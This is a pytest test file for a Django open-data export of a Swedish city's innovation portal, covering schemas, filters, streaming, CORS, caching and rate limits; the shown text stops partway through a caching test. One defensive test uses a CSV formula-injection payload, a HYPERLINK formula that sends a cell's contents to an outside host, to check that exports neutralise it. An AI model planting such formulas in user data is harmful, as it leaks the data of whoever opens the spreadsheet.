import csv
import fcntl
import io
import itertools
import json
import re
from datetime import UTC, datetime, timedelta

import pytest
from django.apps import apps
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from contributions.models import ContributionStatus as S
from contributions.models import SubmitterKind
from helsingborg_innovation import opendata
from helsingborg_innovation.models import Partner
from helsingborg_innovation.publishing import Status
from initiatives.models import ImpactGoal, Phase
from methods.models import Method
from tests.statistics.conftest import d, make_idea  # noqa: F401 - a fixture

DATASETS = ["challenges", "initiatives", "methods", "ideas"]


def url(dataset: str, fmt: str, language: str = "en") -> str:
    with translation.override(language):
        return reverse("opendata:export", kwargs={"dataset": dataset, "fmt": fmt})


def download(client, dataset: str, fmt: str, **params):
    response = client.get(url(dataset, fmt), params)
    assert response.status_code == 200
    assert response.streaming
    body = b"".join(response.streaming_content).decode()
    return response, body


def rows(client, dataset: str, fmt: str, **params) -> list[dict]:
    _response, body = download(client, dataset, fmt, **params)
    if fmt == "json":
        return json.loads(body)
    return list(csv.DictReader(io.StringIO(body)))


def field_names(dataset: str) -> list[str]:
    return [f.name for f in opendata.DATASETS[dataset].fields]


@pytest.fixture
def portfolio(make_department, make_partner, make_initiative, make_challenge, make_method, goal):
    owner = make_department(name="Stadsbyggnadsförvaltningen")
    other = make_department(name="Miljöförvaltningen")
    challenge = make_challenge(title="Renare Öresund", slug="renare-oresund", goals=[goal])
    make_challenge(title="Utkast till utmaning", slug="utkast-utmaning", status=Status.DRAFT)
    method = make_method(title="Tjänstedesign", slug="tjanstedesign", kind=Method.Kind.METHOD)
    make_method(title="Mall", slug="mall", kind=Method.Kind.TEMPLATE)
    make_method(title="Hemlig metod", slug="hemlig-metod", status=Status.DRAFT)
    stopped = make_initiative(
        title="Sensorer i avloppet",
        slug="sensorer",
        phase=Phase.STOPPED,
        owner_department=owner,
        departments=[other],
        partners=[make_partner(name="Lunds universitet", kind=Partner.Kind.ACADEMIA)],
        challenges=[challenge],
        methods=[method],
        goals=[goal],
        tags=["vatten"],
        start_date=d(2023, 1, 15),
        end_date=d(2024, 6, 30),
    )
    ImpactGoal.objects.create(
        initiative=stopped, description="Färre bräddningar", target="-20 %", result="-5 %"
    )
    make_initiative(title="Cykelpilot", slug="cykelpilot", phase=Phase.PILOT)
    make_initiative(title="Hemligt utkast", slug="hemligt-utkast", status=Status.DRAFT)
    make_initiative(
        title="Schemalagt", slug="schemalagt", publish_at=timezone.now() + timedelta(days=2)
    )
    return {"challenge": challenge, "stopped": stopped}


@pytest.mark.parametrize("dataset", DATASETS)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_exports_parse_and_match_the_schema(client, portfolio, make_idea, dataset, fmt):  # noqa: F811
    make_idea(challenge=portfolio["challenge"], status=S.PUBLISHED)
    response, body = download(client, dataset, fmt)
    content_type = "text/csv" if fmt == "csv" else "application/json"
    assert response["Content-Type"] == f"{content_type}; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{dataset}.{fmt}"'
    assert response["X-Schema-Version"] == opendata.SCHEMA_VERSION
    if fmt == "csv":
        reader = csv.reader(io.StringIO(body))
        assert next(reader) == field_names(dataset)
        assert len(list(reader)) >= 1
    else:
        data = json.loads(body)
        assert isinstance(data, list) and data
        for row in data:
            assert list(row) == field_names(dataset)


def test_initiative_export_holds_the_whole_story(client, portfolio, goal):
    by_slug = {row["slug"]: row for row in rows(client, "initiatives", "json")}
    assert set(by_slug) == {"sensorer", "cykelpilot"}
    row = by_slug["sensorer"]
    assert row["phase"] == "stopped"
    assert row["start_date"] == "2023-01-15" and row["end_date"] == "2024-06-30"
    assert row["owner_department"] == "Stadsbyggnadsförvaltningen"
    assert row["departments"] == ["Miljöförvaltningen"]
    assert row["partners"] == [{"name": "Lunds universitet", "kind": "academia"}]
    assert row["challenges"] == ["renare-oresund"]
    assert row["methods"] == ["tjanstedesign"]
    assert row["global_goals"] == [goal.number]
    assert row["impact_goals"] == [
        {"description": "Färre bräddningar", "target": "-20 %", "result": "-5 %"}
    ]
    assert row["stop_reason"] == "no_effect"
    assert row["lessons_learned"] == "Testa i liten skala först."
    assert row["tags"] == ["vatten"]
    assert row["url"] == "http://testserver/en/initiatives/sensorer/"

    csv_row = {r["slug"]: r for r in rows(client, "initiatives", "csv")}["sensorer"]
    assert csv_row["departments"] == "Miljöförvaltningen"
    assert json.loads(csv_row["partners"]) == [{"name": "Lunds universitet", "kind": "academia"}]
    assert csv_row["global_goals"] == str(goal.number)


def test_no_drafts_or_scheduled_items(client, portfolio):
    everything = ""
    for dataset in DATASETS:
        for fmt in ("csv", "json"):
            everything += download(client, dataset, fmt)[1]
    for secret in ("Hemligt utkast", "Schemalagt", "Utkast till utmaning", "Hemlig metod"):
        assert secret not in everything


def test_exports_honour_the_list_filters(client, portfolio):
    assert [r["slug"] for r in rows(client, "initiatives", "csv", phase="stopped")] == ["sensorer"]
    assert [r["slug"] for r in rows(client, "initiatives", "json", stopped="no")] == ["cykelpilot"]
    assert [r["slug"] for r in rows(client, "initiatives", "json", q="avloppet")] == ["sensorer"]
    assert [r["slug"] for r in rows(client, "initiatives", "json", year="2024")] == ["sensorer"]
    # A department both owns and takes part: the initiative is still listed once.
    dept = portfolio["stopped"].departments.get()
    portfolio["stopped"].departments.add(portfolio["stopped"].owner_department)
    slug = portfolio["stopped"].owner_department.slug
    assert [r["slug"] for r in rows(client, "initiatives", "json", department=slug)] == ["sensorer"]
    assert [r["slug"] for r in rows(client, "initiatives", "json", department=dept.slug)] == [
        "sensorer"
    ]
    assert [r["slug"] for r in rows(client, "methods", "csv", kind="template")] == ["mall"]
    assert [r["slug"] for r in rows(client, "challenges", "json", q="Öresund")] == [
        "renare-oresund"
    ]


def test_an_invalid_filter_is_a_clear_400(client, portfolio):
    response = client.get(url("initiatives", "csv"), {"phase": "nonsense"})
    assert response.status_code == 400
    assert "phase" in response.content.decode()


def test_published_ideas_carry_no_personal_data(client, portfolio, make_idea):  # noqa: F811
    challenge = portfolio["challenge"]
    shown = make_idea(challenge=challenge, status=S.PUBLISHED, show_name=True, name="Öppen Person")
    hidden = make_idea(challenge=challenge, status=S.PUBLISHED, show_name=False)
    make_idea(challenge=challenge, status=S.PENDING, title="Väntande idé")
    make_idea(challenge=challenge, status=S.SPAM, title="Skräp")
    draft = portfolio["challenge"].__class__.objects.get(slug="utkast-utmaning")
    make_idea(challenge=draft, status=S.PUBLISHED, title="Idé om utkast")
    for fmt in ("csv", "json"):
        _response, body = download(client, "ideas", fmt)
        assert "@" not in body
        assert shown.email not in body and hidden.email not in body
        assert hidden.name not in body
        assert "Öppen Person" in body
        for absent in ("Väntande idé", "Skräp", "Idé om utkast"):
            assert absent not in body
    by_id = {row["id"]: row for row in rows(client, "ideas", "json")}
    assert set(by_id) == {shown.pk, hidden.pk}
    assert by_id[hidden.pk]["name"] == ""
    assert by_id[hidden.pk]["submitter_kind"] == SubmitterKind.RESIDENT
    assert by_id[shown.pk]["challenge"] == "renare-oresund"


def test_ideas_filter_by_challenge(client, make_challenge, make_idea):  # noqa: F811
    one, two = make_challenge(slug="ett"), make_challenge(slug="tva")
    make_idea(challenge=one, status=S.PUBLISHED)
    make_idea(challenge=two, status=S.PUBLISHED)
    assert [r["challenge"] for r in rows(client, "ideas", "json", challenge="tva")] == ["tva"]


def _initiatives(make_initiative, make_department, make_partner, goal, n):
    for _ in range(n):
        make_initiative(
            departments=[make_department()],
            partners=[make_partner()],
            goals=[goal],
            tags=["a", "b"],
        )


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_queries_do_not_grow_with_rows(
    client, make_initiative, make_department, make_partner, goal, fmt
):
    _initiatives(make_initiative, make_department, make_partner, goal, 2)
    with CaptureQueriesContext(connection) as few:
        assert len(rows(client, "initiatives", fmt)) == 2
    _initiatives(make_initiative, make_department, make_partner, goal, 30)
    with CaptureQueriesContext(connection) as many:
        assert len(rows(client, "initiatives", fmt)) == 32
    assert len(many) == len(few)


def test_queries_grow_only_per_batch(
    client, monkeypatch, make_initiative, make_department, make_partner, goal
):
    monkeypatch.setattr(opendata, "BATCH", 5)
    _initiatives(make_initiative, make_department, make_partner, goal, 5)
    with CaptureQueriesContext(connection) as one_batch:
        rows(client, "initiatives", "json")
    _initiatives(make_initiative, make_department, make_partner, goal, 10)
    with CaptureQueriesContext(connection) as three_batches:
        assert len(rows(client, "initiatives", "json")) == 15
    per_batch = len(one_batch) - 1  # the main query, then the prefetches of each batch
    assert len(three_batches) <= 1 + 3 * per_batch


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_is_streamed_a_batch_at_a_time_telling_gunicorn_it_is_alive(
    client, make_initiative, monkeypatch, fmt
):
    """Under gunicorn the whole portfolio (100,000 initiatives, 50 MB, some 30 s) was cut off
    at 38 MB as a hung worker, after its 200 had gone; and it went out one row per write."""
    from helsingborg_innovation import heartbeat

    class Worker:
        beats = 0

        def notify(self):
            Worker.beats += 1

    monkeypatch.setattr(opendata, "BATCH", 2)
    monkeypatch.setattr(heartbeat, "_worker", Worker())
    for n in range(3):
        make_initiative(title=f"Initiativ {n}")
    response = client.get(url("initiatives", fmt))
    chunks = [chunk.decode() for chunk in response.streaming_content]
    # The header or the array's start, two batches (and the array's end).
    assert len(chunks) == (3 if fmt == "csv" else 4)
    assert Worker.beats == 2
    whole = "".join(chunks)
    if fmt == "json":
        assert chunks[0] == "[" and chunks[-1].strip() == "]"
        titles = [row["title"] for row in json.loads(whole)]
    else:
        titles = [row["title"] for row in csv.DictReader(io.StringIO(whole))]
    assert sorted(titles) == ["Initiativ 0", "Initiativ 1", "Initiativ 2"]


def test_open_data_page_documents_schema_and_licence(client, db):
    with translation.override("en"):
        page = reverse("opendata:index")
    assert page == "/en/open-data/"
    html = client.get(page).content.decode()
    assert f'<dd id="schema-version">{opendata.SCHEMA_VERSION}</dd>' in html
    assert "CC0" in html and 'rel="license"' in html
    for dataset in DATASETS:
        assert f'href="/en/open-data/{dataset}.csv"' in html
        assert f'href="/en/open-data/{dataset}.json"' in html
        for name in field_names(dataset):
            assert f"<code>{name}</code>" in html
    assert "email" not in html.lower().replace("e-mail", "")


def test_machine_readable_schema(client, db):
    with translation.override("en"):
        schema_url = reverse("opendata:schema")
    schema = client.get(schema_url).json()
    assert schema["version"] == opendata.SCHEMA_VERSION
    assert schema["licence"] == "CC0-1.0"
    assert [f["name"] for f in schema["datasets"]["ideas"]["fields"]] == field_names("ideas")
    assert "email" not in field_names("ideas")


def test_swedish_file_names(client, db):
    with translation.override("sv"):
        if translation.gettext("initiatives.csv") == "initiatives.csv":
            pytest.skip("The Swedish URL segments are not compiled yet.")
    assert url("initiatives", "csv", "sv") == "/oppna-data/initiativ.csv"
    response = client.get(url("initiatives", "csv", "sv"))
    assert response["Content-Disposition"] == 'attachment; filename="initiativ.csv"'


@pytest.mark.parametrize(
    ("list_name", "dataset", "params"),
    [
        ("initiatives:list", "initiatives", "phase=stopped"),
        ("challenges:list", "challenges", "status=open"),
        ("methods:list", "methods", "kind=template"),
    ],
)
def test_list_pages_link_to_their_filtered_results(client, db, list_name, dataset, params):
    with translation.override("en"):
        page = reverse(list_name)
    html = client.get(f"{page}?{params}").content.decode()
    assert f'href="{url(dataset, "csv")}?{params}"' in html
    assert f'href="{url(dataset, "json")}?{params}"' in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_a_text_a_spreadsheet_would_run_is_text_in_the_csv(client, make_challenge, start):
    """Ideas are written by anyone: one titled =HYPERLINK(…) must not become a live formula in
    the spreadsheet of whoever opens the CSV. The JSON keeps it as written."""
    title = start + 'HYPERLINK("https://example.com/?x="&A1;"Klicka")'
    make_challenge(title=title, slug="formel")

    (row,) = rows(client, "challenges", "csv")
    assert row["title"] == "'" + title
    (item,) = rows(client, "challenges", "json")
    assert item["title"] == title


def test_plain_texts_and_numbers_are_unchanged_in_the_csv(client, make_challenge):
    challenge = make_challenge(title="Renare Öresund 2030", slug="renare")
    (row,) = rows(client, "challenges", "csv")
    assert row["title"] == "Renare Öresund 2030"
    assert row["id"] == str(challenge.pk)


def test_an_idea_received_after_midnight_has_the_day_the_challenge_page_shows(
    client,
    make_challenge,
    make_idea,  # noqa: F811
):
    """An idea sent at half past midnight in Helsingborg (23.30 the day before in UTC) was
    exported as received the day before the one its challenge's page shows."""
    challenge = make_challenge()
    received = datetime(2026, 3, 1, 23, 30, tzinfo=UTC)
    make_idea(challenge=challenge, status=S.PUBLISHED, title="Nattidé", received=received)
    page = client.get(challenge.get_absolute_url()).content.decode()
    assert "2 mars 2026" in page
    for fmt in ("csv", "json"):
        (row,) = rows(client, "ideas", fmt)
        assert row["received_at"] == "2026-03-02"


@pytest.mark.parametrize("language", ["sv", "en"])
def test_the_schema_links_each_file_by_its_whole_address(client, db, language):
    """A program reads the schema to find the files: "/oppna-data/initiativ.csv" was no address
    it could download until it guessed the host."""
    with translation.override(language):
        schema = client.get(reverse("opendata:schema")).json()
    for dataset in DATASETS:
        for fmt in ("csv", "json"):
            assert schema["datasets"][dataset][fmt] == "http://testserver" + url(
                dataset, fmt, language
            )


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_head_request_gets_the_headers_without_making_the_file(client, make_initiative, fmt):
    """Link checkers and data portals' harvesters ask with HEAD. The server reads a response's
    whole body to drop it, so each HEAD made the whole export (the initiatives: 14 s of a
    worker on the benchmark's portfolio)."""
    make_initiative()
    get = client.get(url("initiatives", fmt))
    head = opendata.export(RequestFactory().head(url("initiatives", fmt)), "initiatives", fmt)
    assert head.status_code == 200
    for name in ("Content-Type", "Content-Disposition", "X-Schema-Version", "Link"):
        assert head[name] == get[name]
    with CaptureQueriesContext(connection) as queries:
        assert b"".join(head.streaming_content) == b""
    assert len(queries) == 0


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_ideas_of_a_challenge_nobody_can_see_are_a_clear_400(
    client,
    make_challenge,
    make_idea,  # noqa: F811
    fmt,
):
    """A mistyped challenge gave a file of no ideas, as if it had none, where the other
    exports' challenge filter says it is no valid choice; a draft is no choice either."""
    make_challenge(slug="utkast", status=Status.DRAFT)
    quiet = make_challenge(slug="tyst")
    for slug in ("finns-inte", "utkast"):
        response = client.get(url("ideas", fmt), {"challenge": slug})
        assert response.status_code == 400
        assert response.content.decode().startswith("challenge: ")
    assert rows(client, "ideas", fmt, challenge=quiet.slug) == []


def test_a_script_on_another_site_reads_the_schema_version_and_a_refused_filter(client, db):
    """The exports allow any site's scripts (CORS), but a browser shows a script only the
    headers the response names, and nothing of a response that does not allow it: the schema
    version and licence were hidden, and a 400 was a network error without its reason."""
    origin = {"HTTP_ORIGIN": "https://example.org"}
    response = client.get(url("initiatives", "json"), **origin)
    exposed = {h.strip().lower() for h in response["Access-Control-Expose-Headers"].split(",")}
    assert {"x-schema-version", "link", "content-disposition"} <= exposed
    refused = client.get(url("initiatives", "json"), {"year": "abc"}, **origin)
    assert refused.status_code == 400
    assert refused["Access-Control-Allow-Origin"] == "*"
    assert refused.content.decode().startswith("year: ")


def test_a_script_on_another_site_may_ask_with_if_none_match(client, db):
    """The browser asks first (a preflight) whether a script may send If-None-Match: the
    export answered 405, and the browser refused the script its request."""
    response = client.options(
        url("initiatives", "json"),
        headers={
            "Origin": "https://data.example.org",
            "Access-Control-Request-Method": "GET",
            "Access-Control-Request-Headers": "if-none-match",
        },
    )

    assert response.status_code == 204
    assert response.content == b""
    assert response["Access-Control-Allow-Origin"] == "*"
    methods = {m.strip() for m in response["Access-Control-Allow-Methods"].split(",")}
    assert methods == {"GET", "HEAD"}
    allowed = {h.strip().lower() for h in response["Access-Control-Allow-Headers"].split(",")}
    assert "if-none-match" in allowed
    assert int(response["Access-Control-Max-Age"]) > 0


def test_a_script_on_another_site_may_ask_for_the_schema_with_if_none_match(client, db):
    """A program reads the schema first, to find the files: a script on another site that
    asks for it again with its ETag is preflighted as it is for a file. The schema answered
    the preflight 405, and the browser refused the script its request; nor could the script
    read the ETag to ask with."""
    origin = {"Origin": "https://data.example.org"}
    preflight = client.options(
        reverse("opendata:schema"),
        headers={
            **origin,
            "Access-Control-Request-Method": "GET",
            "Access-Control-Request-Headers": "if-none-match",
        },
    )
    assert preflight.status_code == 204
    assert preflight["Access-Control-Allow-Origin"] == "*"
    allowed = {h.strip().lower() for h in preflight["Access-Control-Allow-Headers"].split(",")}
    assert "if-none-match" in allowed

    response = client.get(reverse("opendata:schema"), headers=origin)
    exposed = {h.strip().lower() for h in response["Access-Control-Expose-Headers"].split(",")}
    assert "etag" in exposed
    again = client.get(
        reverse("opendata:schema"), headers={**origin, "If-None-Match": response["ETag"]}
    )
    assert again.status_code == 304
    assert again["Access-Control-Allow-Origin"] == "*"


def test_open_data_page_says_how_to_open_the_csv_in_excel(client, db):
    """A CSV double-clicked in a Swedish Excel is read in the old Windows code page and split
    on semicolons: "Öresund" became "Ã–resund", every row one cell. The files stay plain
    UTF-8 for the programs that read them (a byte-order mark would change the first field's
    name for them, and would not fix the separator); the page says how Excel reads them."""
    html = client.get(reverse("opendata:index")).text
    assert "Data › Från text/CSV" in html
    assert "65001: Unicode (UTF-8)" in html


def _closed_by_the_server(response) -> None:
    """Close a response as the server does when its visitor goes away. Closing fires
    request_finished, whose close_old_connections would close the test's own transaction on
    PostgreSQL: the test client keeps it away while it closes a response, and so does this."""
    from django.core.signals import request_finished
    from django.db import close_old_connections

    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


def test_only_so_many_exports_are_made_at_once(client, make_initiative, settings):
    """The whole portfolio holds a worker for up to half a minute: a few visitors asking for
    it over and over held every worker, and the site answered no one. One more than the site
    makes at once is told to come back, and a slot is free as soon as its file is sent, or
    left by a visitor who went away before its first byte."""
    settings.OPEN_DATA_EXPORTS_AT_ONCE = 1
    make_initiative(title="Öppet initiativ")
    first = client.get(url("initiatives", "csv"))
    assert first.status_code == 200
    assert next(iter(first.streaming_content)).decode().startswith("id,")  # being sent

    busy = client.get(url("initiatives", "json"))
    assert busy.status_code == 503
    assert busy["Retry-After"] == "30"
    assert "Try again in half a minute." in busy.content.decode()
    # HEAD makes no file, so it is never turned away.
    assert client.head(url("initiatives", "csv")).status_code == 200

    # Sent whole: the test client, as a server, closes the response after its last byte.
    assert "Öppet initiativ" in b"".join(first.streaming_content).decode()
    abandoned = client.get(url("challenges", "json"))
    assert abandoned.status_code == 200
    _closed_by_the_server(abandoned)  # not one byte read
    again = client.get(url("initiatives", "json"))
    assert again.status_code == 200
    assert [row["title"] for row in json.loads(b"".join(again.streaming_content))] == [
        "Öppet initiativ"
    ]
    _closed_by_the_server(again)


def test_exports_are_made_when_the_cache_cannot_count_them(
    client, make_initiative, settings, monkeypatch
):
    """With the cache server away, the slots it holds cannot be seen: the file is made, not
    refused, counted on the node instead (see the next test)."""
    from helsingborg_innovation import pagecache

    settings.OPEN_DATA_EXPORTS_AT_ONCE = 1
    make_initiative(title="Öppet initiativ")
    held = client.get(url("initiatives", "csv"))
    monkeypatch.setattr(pagecache, "cache_usable", lambda: False)
    response = client.get(url("initiatives", "csv"))
    assert response.status_code == 200
    assert "Öppet initiativ" in b"".join(response.streaming_content).decode()
    _closed_by_the_server(held)


def test_while_the_cache_is_away_each_node_makes_only_so_many_at_once(
    client, make_initiative, settings, broken_limits_cache, caplog
):
    """With the cache server away the slots were not counted at all, and a few visitors asking
    for the whole portfolio over and over could hold every worker of every node. Each node
    then counts them on its own, its workers together (another worker's slot is a lock on a
    file of the node), and says so in the log as for the other counts."""
    settings.OPEN_DATA_EXPORTS_AT_ONCE = 2
    make_initiative(title="Öppet initiativ")
    with caplog.at_level("WARNING", logger="helsingborg_innovation.pagecache"):
        first = client.get(url("initiatives", "csv"))
    assert first.status_code == 200
    assert broken_limits_cache  # the cache server was asked first
    assert [r.getMessage() for r in caplog.records] == [
        "Cache server unavailable (counting open-data exports: each node counts alone): "
        "serving pages uncached, trying again in 5 s"
    ]
    with open(opendata.node_slot_path(1), "a") as other_worker:
        fcntl.flock(other_worker, fcntl.LOCK_EX | fcntl.LOCK_NB)
        busy = client.get(url("initiatives", "json"))
    assert busy.status_code == 503
    assert busy["Retry-After"] == "30"

    # Sent whole, the first file gives its slot back.
    assert "Öppet initiativ" in b"".join(first.streaming_content).decode()
    second = client.get(url("challenges", "json"))
    third = client.get(url("methods", "json"))
    assert (second.status_code, third.status_code) == (200, 200)
    assert client.get(url("initiatives", "json")).status_code == 503
    _closed_by_the_server(second)
    _closed_by_the_server(third)


def test_a_node_that_cannot_count_either_makes_the_file(
    client, make_initiative, settings, broken_limits_cache, tmp_path, monkeypatch, caplog
):
    """Without the cache and without a directory for the node's slots, a file is made and the
    log says why exports are not counted, rather than every export refused."""
    monkeypatch.setattr(opendata, "NODE_SLOTS_DIRECTORY", tmp_path / "gone")
    make_initiative(title="Öppet initiativ")
    with caplog.at_level("WARNING", logger="helsingborg_innovation.opendata"):
        response = client.get(url("initiatives", "csv"))
    assert response.status_code == 200
    assert "Öppet initiativ" in b"".join(response.streaming_content).decode()
    assert [r.getMessage() for r in caplog.records if r.name.endswith("opendata")] == [
        "Cannot count open-data exports on this node"
    ]


@pytest.mark.parametrize(
    ("dataset", "maker", "model"),
    [
        ("challenges", "make_challenge", "challenges.Challenge"),
        ("initiatives", "make_initiative", "initiatives.Initiative"),
        ("methods", "make_method", "methods.Method"),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_item_published_after_its_last_edit_was_updated_when_it_went_public(
    client, request, dataset, maker, model, fmt
):
    """An editor saves on Monday what goes public on Friday. The exports said it was last
    changed on Monday, before it was published, where the sitemap and the feeds say Friday:
    a harvester that fetches what changed since Thursday missed it."""
    now = timezone.now()
    item = request.getfixturevalue(maker)(slug="schemalagd")
    apps.get_model(model).objects.filter(pk=item.pk).update(
        updated_at=now - timedelta(days=4), publish_at=now - timedelta(hours=1)
    )

    (row,) = rows(client, dataset, fmt)

    went_public = (now - timedelta(hours=1)).isoformat()
    assert row["published_at"] == went_public
    assert row["updated_at"] == went_public


def test_the_schema_says_updated_at_is_when_the_public_last_saw_a_change(client, db):
    schema = client.get(reverse("opendata:schema")).json()
    for dataset in ("challenges", "initiatives", "methods"):
        (field,) = [f for f in schema["datasets"][dataset]["fields"] if f["name"] == "updated_at"]
        assert field["description"] == (
            "När posten senast ändrades offentligt: när den publicerades eller, om den har "
            "ändrats sedan dess, när den senast ändrades."
        )


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_ideas_say_when_they_were_published(client, make_challenge, make_idea, fmt):  # noqa: F811
    """The ideas said only the day they arrived: a harvester could not tell which ideas were
    new since its last visit, since an idea sent long ago may be published today. The time
    is the one the challenge's feed dates the idea by; an idea published before decisions
    were timed was published when it arrived."""
    challenge = make_challenge()
    received = datetime(2026, 3, 1, 23, 30, tzinfo=UTC)
    timed = make_idea(
        challenge=challenge,
        status=S.PUBLISHED,
        received=received,
        decided_after=timedelta(days=2, hours=3),
    )
    untimed = make_idea(challenge=challenge, status=S.PUBLISHED, received=received)

    by_id = {int(row["id"]): row for row in rows(client, "ideas", fmt)}

    assert by_id[timed.pk]["published_at"] == "2026-03-04T02:30:00+00:00"
    assert by_id[untimed.pk]["published_at"] == "2026-03-01T23:30:00+00:00"
    # Added to the end, so a program that reads the CSV's columns by position reads them
    # as before.
    assert field_names("ideas")[-1] == "published_at"


def test_a_new_field_raises_the_minor_schema_version(client, db):
    """Adding a field breaks no existing use: 1.0 became 1.1, as the open-data page promises
    (a change that breaks existing use gives a new major version)."""
    assert opendata.SCHEMA_VERSION == "1.1"
    schema = client.get(reverse("opendata:schema")).json()
    assert schema["version"] == "1.1"
    (field,) = [f for f in schema["datasets"]["ideas"]["fields"] if f["name"] == "published_at"]
    assert field["type"] == "datetime"
    with translation.override("en"):
        html = client.get(reverse("opendata:index")).content.decode()
    assert "<code>published_at</code>" in html.split('id="dataset-ideas"')[1]
    assert "A new field is added at the end of its file and raises the second number" in html


@pytest.mark.parametrize(
    ("dataset", "name", "maker"),
    [
        ("initiatives", "challenge", "make_challenge"),
        ("initiatives", "method", "make_method"),
        ("ideas", "challenge", "make_challenge"),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_former_slug_in_a_filter_leads_to_the_file_filtered_by_the_slug_now(
    client,
    request,
    make_initiative,
    make_idea,  # noqa: F811
    dataset,
    name,
    maker,
    fmt,
):
    """An export filtered by a challenge answered 400 once the challenge's slug was changed,
    though its page follows the change: a harvester's saved address broke. It now leads, for
    any site's scripts too, to the file filtered by the slug the item has now."""
    item = request.getfixturevalue(maker)(slug="gamla-namnet")
    if dataset == "ideas":
        make_idea(challenge=item, status=S.PUBLISHED, title="Berörd idé")
        make_idea(status=S.PUBLISHED, title="Annan idé")
    else:
        make_initiative(title="Berört", **{f"{name}s": [item]})
        make_initiative(title="Annat")
    item.slug = "nya-namnet"
    item.save()

    response = client.get(url(dataset, fmt), {name: "gamla-namnet"})

    assert response.status_code == 301
    assert response["Location"] == f"{url(dataset, fmt)}?{name}=nya-namnet"
    assert response["Access-Control-Allow-Origin"] == "*"
    (row,) = rows(client, dataset, fmt, **{name: "nya-namnet"})
    assert row["title"] in ("Berört", "Berörd idé")


# Kept in the page cache ---------------------------------------------------------------------


@pytest.fixture
def page_cache(settings):
    settings.PAGE_CACHE_ENABLED = True


def _fetched(client, dataset: str, fmt: str, **params):
    """The response and its body, made afresh (streamed) or served from the cache."""
    response = client.get(url(dataset, fmt), params)
    assert response.status_code == 200
    if response.streaming:
        return response, b"".join(response.streaming_content).decode()
    return response, response.content.decode()


@pytest.mark.parametrize("dataset", DATASETS)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_file_asked_for_again_comes_from_the_cache(
    client,
    page_cache,
    portfolio,
    make_idea,  # noqa: F811
    dataset,
    fmt,
):
    """Every download made the whole file afresh (the whole portfolio: up to half a minute of
    a worker), however often it was asked for unchanged. The file is now kept as the pages
    are, until what it holds changes, with the same headers."""
    make_idea(challenge=portfolio["challenge"], status=S.PUBLISHED)
    first, body = _fetched(client, dataset, fmt)

    with CaptureQueriesContext(connection) as queries:
        second, again = _fetched(client, dataset, fmt)

    assert first["X-Page-Cache"] == "miss"
    assert second["X-Page-Cache"] == "hit"
    assert again == body
    assert len(queries) == 0
    for header in (
        "Content-Type",
        "Content-Disposition",
        "X-Schema-Version",
        "Link",
        "Access-Control-Allow-Origin",
        "Access-Control-Expose-Headers",
    ):
        assert second[header] == first[header]
    assert second["Content-Length"] == str(len(again.encode()))


def test_the_open_data_page_says_the_files_are_always_up_to_date(client, db):
    """The page said the files are made at each download, which a kept file is not."""
    with translation.override("en"):
        html = client.get(reverse("opendata:index")).text
    assert "The files are always up to date: a change on the site shows in them at once." in html
    assert "made when you download" not in html


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_publishing_an_item_changes_its_file_at_once(client, page_cache, make_initiative, fmt):
    make_initiative(title="Cykelpilot")
    draft = make_initiative(title="Solceller på taken", status=Status.DRAFT)
    _fetched(client, "initiatives", fmt)

    draft.status = Status.PUBLISHED
    draft.save()
    response, body = _fetched(client, "initiatives", fmt)

    assert response["X-Page-Cache"] == "miss"
    assert "Solceller på taken" in body


def test_publishing_an_idea_changes_the_ideas_file_at_once(
    client,
    page_cache,
    make_challenge,
    make_idea,  # noqa: F811
):
    challenge = make_challenge()
    make_idea(challenge=challenge, status=S.PUBLISHED, title="Belysta stråk")
    waiting = make_idea(challenge=challenge, title="Fler bänkar")
    _fetched(client, "ideas", "json")
    assert _fetched(client, "ideas", "json")[0]["X-Page-Cache"] == "hit"

    waiting.status = S.PUBLISHED
    waiting.save()
    response, body = _fetched(client, "ideas", "json")

    assert response["X-Page-Cache"] == "miss"
    assert "Fler bänkar" in body


def test_renaming_a_challenge_changes_the_files_that_name_it(
    client, page_cache, make_challenge, make_initiative
):
    challenge = make_challenge(slug="gamla-namnet")
    make_initiative(challenges=[challenge])
    _fetched(client, "initiatives", "json")

    challenge.slug = "nya-namnet"
    challenge.save()
    (row,) = json.loads(_fetched(client, "initiatives", "json")[1])

    assert row["challenges"] == ["nya-namnet"]


def test_each_filter_has_a_file_of_its_own(client, page_cache, portfolio):
    _fetched(client, "initiatives", "json")
    response, body = _fetched(client, "initiatives", "json", phase="stopped")
    assert response["X-Page-Cache"] == "miss"
    assert [row["slug"] for row in json.loads(body)] == ["sensorer"]


def _served(method: str, read: int | None = None):
    """The initiatives' CSV for an anonymous visitor, through the page cache, as a server
    sends it: read to the end (`read` chunks only, for a visitor who goes away), then closed.
    Without the test client, which drops a HEAD's body unread, and which on PostgreSQL ends
    the test's transaction when a response it streamed is closed half read."""
    from django.contrib.auth.models import AnonymousUser

    from helsingborg_innovation import pagecache

    view = pagecache.cache_public_page(*pagecache.OPEN_DATA_KINDS["initiatives"])(
        lambda request: opendata.export(request, dataset="initiatives", fmt="csv")
    )
    request = getattr(RequestFactory(), method)(url("initiatives", "csv"))
    request.user = AnonymousUser()
    response = view(request)
    chunks = iter(response.streaming_content if response.streaming else [response.content])
    body = b"".join(itertools.islice(chunks, read))
    _closed_by_the_server(response)
    return response, body.decode()


def test_a_head_request_keeps_no_empty_file(page_cache, make_initiative):
    """HEAD makes no file: what it answered must not be served as the file to a GET."""
    make_initiative(title="Cykelpilot")
    head, body = _served("head")
    assert head.status_code == 200
    assert body == ""

    first, body = _served("get")

    assert first["X-Page-Cache"] == "miss"
    assert "Cykelpilot" in body
    assert _served("get")[0]["X-Page-Cache"] == "hit"


def test_a_file_left_half_sent_is_not_kept(page_cache, make_initiative):
    make_initiative(title="Cykelpilot")
    _first, header = _served("get", read=1)  # the header row, and the visitor goes away
